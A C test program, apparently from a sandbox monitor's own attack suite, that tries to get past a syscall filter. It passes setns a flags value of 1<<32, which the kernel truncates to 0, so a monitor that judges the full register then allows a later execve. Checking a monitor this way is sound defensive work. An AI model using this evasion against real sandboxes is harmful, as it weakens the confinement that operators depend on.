// setns(2) takes `int flags`: flags of 1 << 32 are 0 for the kernel, which enters whatever namespace the descriptor is
// of. A monitor that judges the whole register takes the call for one that enters no pid namespace, and serves an
// execve after it. The new monitor's VM cannot run (process/alone.c): the monitor ends, though a payload can only
// ever cause an error of its own call.
#include "attack.h"
#include <sys/socket.h>

// A descriptor that another process has opened after it has entered new namespaces.
static int descriptor_from(int socket) {
    char control[CMSG_SPACE(sizeof(int))] = {0}, byte;
    struct iovec v = {&byte, 1};
    struct msghdr m = {
        .msg_iov = &v, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    int fd = -1;
    if (recvmsg(socket, &m, 0) == 1 && m.msg_controllen)
        memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof fd);
    return fd;
}

static void send_descriptor(int socket, int fd) {
    char control[CMSG_SPACE(sizeof(int))] = {0};
    struct iovec v = {"x", 1};
    struct msghdr m = {
        .msg_iov = &v, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    struct cmsghdr *c = CMSG_FIRSTHDR(&m);
    *c = (struct cmsghdr){.cmsg_len = CMSG_LEN(sizeof fd), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS};
    memcpy(CMSG_DATA(c), &fd, sizeof fd);
    if (fd < 0)
        m.msg_controllen = 0;
    sendmsg(socket, &m, 0);
}

static void enter(void *argument) {
    int *ends = argument, user = descriptor_from(ends[0]), pid = descriptor_from(ends[0]);
    if (setns(user, CLONE_NEWUSER) < 0 || syscall(SYS_setns, pid, 1L << 32) < 0)
        _exit(1); // refused: nothing is shown
    execl("/attack", "attack", "again", NULL);
    _exit(0); // an error of its own call
}

int main(int argc, char **argv) {
    int ends[2];
    (void)argv;
    if (argc > 1)
        _exit(0);
    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, ends) < 0)
        attack_broken("socketpair");
    pid_t keeper = fork();
    if (keeper == 0) {
        int entered = unshare(CLONE_NEWUSER) == 0 && unshare(CLONE_NEWPID) == 0;
        pid_t first = entered ? fork() : 0; // the namespace needs its first process
        if (!first) {
            pause();
            _exit(0);
        }
        send_descriptor(ends[1], open("/proc/self/ns/user", O_RDONLY));
        send_descriptor(ends[1], open("/proc/self/ns/pid_for_children", O_RDONLY));
        pause();
    }
    int status = attack_child(enter, ends);
    kill(keeper, SIGKILL);
    if (!WIFEXITED(status))
        attack_won("the program after the execve ended with signal %d", WTERMSIG(status));
    if (WEXITSTATUS(status) > 1)
        attack_won("the program after the execve ended with status %d", WEXITSTATUS(status));
    attack_lost();
}
